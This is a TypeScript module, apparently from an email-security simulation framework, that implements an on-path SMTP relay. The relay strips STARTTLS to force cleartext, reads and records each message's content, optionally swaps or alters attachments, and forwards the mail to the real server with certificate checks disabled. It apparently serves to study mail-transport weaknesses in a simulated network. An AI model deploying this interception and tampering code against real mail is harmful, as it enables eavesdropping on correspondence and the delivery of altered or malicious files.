import { createHash } from 'node:crypto';
import type { Socket } from 'node:net';
import nodemailer from 'nodemailer';
import { SMTPServer, type SMTPServerSession } from 'smtp-server';
import { collectAttachments, parseMimeEntity, type MimePart } from '@ssmax/core';
import type { OnPathContext, OnPathHook } from '@ssmax/sim-net';
import { messageIdOf } from './compose-mail.js';
import type { AttackerContext, OnPathFoothold } from './footholds.js';
import { recordMailContent } from './mailbox-access.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { openCapturedZips } from './ppap.js';
import { smtpFailure } from './smtp-send.js';

/** What the relay does to attachments before forwarding. */
export type AttachmentTamper =
  | {
      /** Replace the file (all attachments, or those named `filename`) with other bytes. */
      readonly kind: 'swap';
      readonly filename?: string;
      readonly replacement: { readonly content: Uint8Array; readonly filename?: string; readonly contentType?: string };
    }
  | {
      /** Change the file's bytes, keeping its name and type. */
      readonly kind: 'alter';
      readonly filename?: string;
      readonly transform: (content: Uint8Array, filename: string) => Uint8Array;
    };

export interface OnPathMtaOptions {
  /** Swap or alter attached files before forwarding (default: forward unchanged). */
  readonly tamper?: AttachmentTamper;
  /** Greeting name shown to the client (default the intercepted service's host name). */
  readonly greetingName?: string;
}

/** One client connection the relay intercepted. */
export interface InterceptedSession {
  readonly client: string;
  /** The client's EHLO name. */
  readonly helo: string | undefined;
  /** The client closed without sending any message (e.g. it required TLS, which the relay withheld). */
  readonly leftWithoutMail: boolean;
  /** Messages received from the client on this connection. */
  readonly messages: number;
}

const sha = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex').slice(0, 16);

function base64Lines(b: Uint8Array): string {
  return (Buffer.from(b).toString('base64').match(/.{1,76}/g) ?? []).join('\r\n');
}

function attachmentLeaves(root: MimePart): MimePart[] {
  if (root.parts.length === 0) return root.filename !== undefined ? [root] : [];
  return root.parts.flatMap(attachmentLeaves);
}

/**
 * Applies `tamper` to the attachments of `raw`: each matching part's exact bytes are replaced by a newly
 * built part (base64), so everything else in the message stays byte for byte. Returns what changed.
 */
export function tamperAttachments(raw: Uint8Array, tamper: AttachmentTamper): { raw: Uint8Array; changed: { filename: string; before: string; after: string }[] } {
  const root = parseMimeEntity(raw);
  let out = Buffer.from(raw);
  const changed: { filename: string; before: string; after: string }[] = [];
  for (const part of attachmentLeaves(root)) {
    const name = part.filename ?? '';
    if (tamper.filename !== undefined && tamper.filename !== name) continue;
    const content = tamper.kind === 'swap' ? tamper.replacement.content : tamper.transform(part.body, name);
    const newName = tamper.kind === 'swap' ? (tamper.replacement.filename ?? name) : name;
    const type = tamper.kind === 'swap' ? (tamper.replacement.contentType ?? part.contentType.mediaType) : part.contentType.mediaType;
    const rebuilt = Buffer.from(
      `Content-Type: ${type}; name="${newName}"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${newName}"\r\n\r\n${base64Lines(content)}`,
      'latin1',
    );
    const at = out.indexOf(Buffer.from(part.raw));
    if (at < 0) continue;
    out = Buffer.concat([out.subarray(0, at), rebuilt, out.subarray(at + part.raw.byteLength)]);
    changed.push({ filename: newName, before: sha(part.body), after: sha(content) });
  }
  return { raw: new Uint8Array(out), changed };
}

function collect(stream: NodeJS.ReadableStream): Promise<Uint8Array> {
  return new Promise((resolve, reject) => {
    const chunks: Buffer[] = [];
    stream.on('data', (c: Buffer) => chunks.push(c));
    stream.on('end', () => resolve(new Uint8Array(Buffer.concat(chunks))));
    stream.on('error', reject);
  });
}

/**
 * Incident 4: an MTA on the path to a receiving MX (sim-net's `insertOnPath`). It speaks SMTP to both
 * sides: to the sender it offers no STARTTLS (RFC 3207 §4 lets a client continue in clear; a client that
 * requires TLS — its own policy or MTA-STS enforce, RFC 8461 §5 — gives up, and nothing is sent), reads
 * each message, optionally swaps or alters attached files, and relays it to the real MX, answering the
 * sender with the MX's own reply.
 */
export class OnPathMta implements Disposable {
  readonly #rec = new OutcomeRecorder('on-path-mta');
  readonly #server: SMTPServer;
  readonly #contexts = new Map<string, OnPathContext>();
  readonly #sessions = new Map<string, { client: string; helo: string | undefined; demanded: boolean; messages: number }>();
  readonly #sockets = new Set<Socket>();
  #hook: OnPathHook | undefined;

  private constructor(
    private readonly ctx: AttackerContext,
    readonly service: string,
    private readonly options: OnPathMtaOptions,
  ) {
    const host = service.slice(0, service.lastIndexOf(':'));
    this.#server = new SMTPServer({
      name: options.greetingName ?? host,
      // RFC 3207 §4: with STARTTLS absent from the EHLO reply, an opportunistic client continues in clear.
      disabledCommands: ['STARTTLS', 'AUTH'],
      hideSTARTTLS: true,
      authOptional: true,
      logger: false,
      onConnect: (session, cb) => {
        this.#sessions.set(session.id, { client: `${session.remoteAddress}:${session.remotePort}`, helo: undefined, demanded: false, messages: 0 });
        cb();
      },
      onData: (stream, session, cb) => {
        collect(stream).then(
          (raw) => this.#relay(session, raw).then((reply) => cb(null, reply), (err: Error) => cb(err)),
          (err: Error) => cb(err),
        );
      },
      onClose: (session) => this.#closed(session),
    });
    this.#server.on('error', () => undefined);
  }

  /** Puts the relay on the path to the foothold's service. */
  static insert(ctx: AttackerContext, foothold: OnPathFoothold, options: OnPathMtaOptions = {}): OnPathMta {
    const service = typeof foothold.service === 'string' ? foothold.service.trim().toLowerCase() : `${foothold.service.host.toLowerCase()}:${foothold.service.port}`;
    const mta = new OnPathMta(ctx, service, options);
    mta.#hook = ctx.net.insertOnPath(service, (socket: Socket, context: OnPathContext) => {
      mta.#contexts.set(`${socket.remoteAddress}:${socket.remotePort}`, context);
      mta.#sockets.add(socket);
      socket.once('close', () => mta.#sockets.delete(socket));
      // The accepted socket allows half-open connections; a client that is done is done.
      socket.once('end', () => socket.end());
      mta.#rec.act(`intercepted a connection from ${context.meta.client.address} to ${service}; EHLO reply without STARTTLS`);
      // Hand the accepted socket to the SMTP server as if it had accepted it itself.
      mta.#server.server.emit('connection', socket);
    });
    mta.#rec.act(`inserted an SMTP relay on the path to ${service}`);
    return mta;
  }

  /** Sessions seen so far. */
  sessions(): InterceptedSession[] {
    return [...this.#sessions.values()].map((s) => ({ client: s.client, helo: s.helo, leftWithoutMail: s.demanded, messages: s.messages }));
  }

  /** Everything the relay did and read so far. */
  outcome(): AttackOutcome {
    const o = this.#rec.done();
    if (o.obtained.length === 0 && !o.error) return { ...o, error: { code: 'NOTHING_CAPTURED', message: 'No message crossed the relay: no client sent mail through it.' } };
    return o;
  }

  /** Takes the relay off the path (new connections are forwarded again). */
  remove(): void {
    this.#hook?.remove();
    this.#hook = undefined;
    for (const s of this.#sockets) s.destroy();
    this.#sockets.clear();
    this.#server.close();
  }

  [Symbol.dispose](): void {
    this.remove();
  }

  #closed(session: SMTPServerSession): void {
    const s = this.#sessions.get(session.id);
    if (!s) return;
    s.helo = session.hostNameAppearsAs ?? s.helo;
    if (s.messages === 0) {
      // The client left without DATA: with STARTTLS missing, a client that requires TLS stops here.
      s.demanded = true;
      this.#rec.act(`client ${s.client} (${s.helo ?? 'no EHLO'}) left without sending mail`);
    }
  }

  async #relay(session: SMTPServerSession, raw: Uint8Array): Promise<string> {
    const s = this.#sessions.get(session.id);
    if (s) {
      s.messages++;
      s.helo = session.hostNameAppearsAs;
    }
    const from = session.envelope.mailFrom === false ? '' : session.envelope.mailFrom.address;
    const to = session.envelope.rcptTo.map((r) => r.address);
    const where = `in clear on the path to ${this.service}`;
    this.#rec.act(`read DATA of ${messageIdOf(raw) || 'a message'} (${raw.byteLength} bytes) from ${from} to ${to.join(', ')}`);
    recordMailContent(this.#rec, raw, where);
    openCapturedZips(this.#rec);
    let forward = raw;
    if (this.options.tamper) {
      try {
        const t = tamperAttachments(raw, this.options.tamper);
        forward = t.raw;
        for (const c of t.changed) this.#rec.act(`${this.options.tamper.kind === 'swap' ? 'swapped' : 'altered'} attachment ${c.filename} (sha256 ${c.before}… → ${c.after}…)`);
        if (t.changed.length === 0) this.#rec.act('no attachment matched; forwarded unchanged');
      } catch (err) {
        this.#rec.act(`could not parse the message to tamper with it (${(err as Error).message}); forwarded unchanged`);
      }
    }
    const context = this.#contexts.get(`${session.remoteAddress}:${session.remotePort}`);
    if (!context) throw Object.assign(new Error('Relay lost its upstream'), { responseCode: 451 });
    const upstream = await context.connectUpstream();
    this.#sockets.add(upstream);
    upstream.once('close', () => this.#sockets.delete(upstream));
    const transport = nodemailer.createTransport({
      getSocket: (_o: unknown, cb: (err: Error | null, socketOptions?: { connection: Socket }) => void) => cb(null, { connection: upstream }),
      host: context.meta.target.address,
      port: context.meta.target.port,
      secure: false,
      name: session.hostNameAppearsAs || this.service,
      // The relay itself takes TLS to the MX when offered; it trusts any certificate.
      tls: { rejectUnauthorized: false },
    } as never);
    try {
      const info = await transport.sendMail({ envelope: { from, to }, raw: Buffer.from(forward) });
      const reply = String(info.response ?? '250 OK');
      this.#rec.sent = { messageId: messageIdOf(forward), smtpReply: reply, raw: forward, envelope: { from, to } };
      this.#rec.act(`relayed to ${this.service}: ${reply}`);
      return reply.replace(/^\d{3}[ -](\d\.\d\.\d+ )?/, '');
    } catch (err) {
      const f = smtpFailure(err);
      this.#rec.fail(f.code, f.message, f.smtpReply);
      this.#rec.act(`upstream refused: ${f.smtpReply ?? f.message}`);
      const code = Number(/^(\d{3})/.exec(f.smtpReply ?? '')?.[1] ?? 451);
      throw Object.assign(new Error((f.smtpReply ?? f.message).replace(/^\d{3}[ -](\d\.\d\.\d+ )?/, '')), { responseCode: code });
    } finally {
      transport.close();
      upstream.destroy();
    }
  }
}
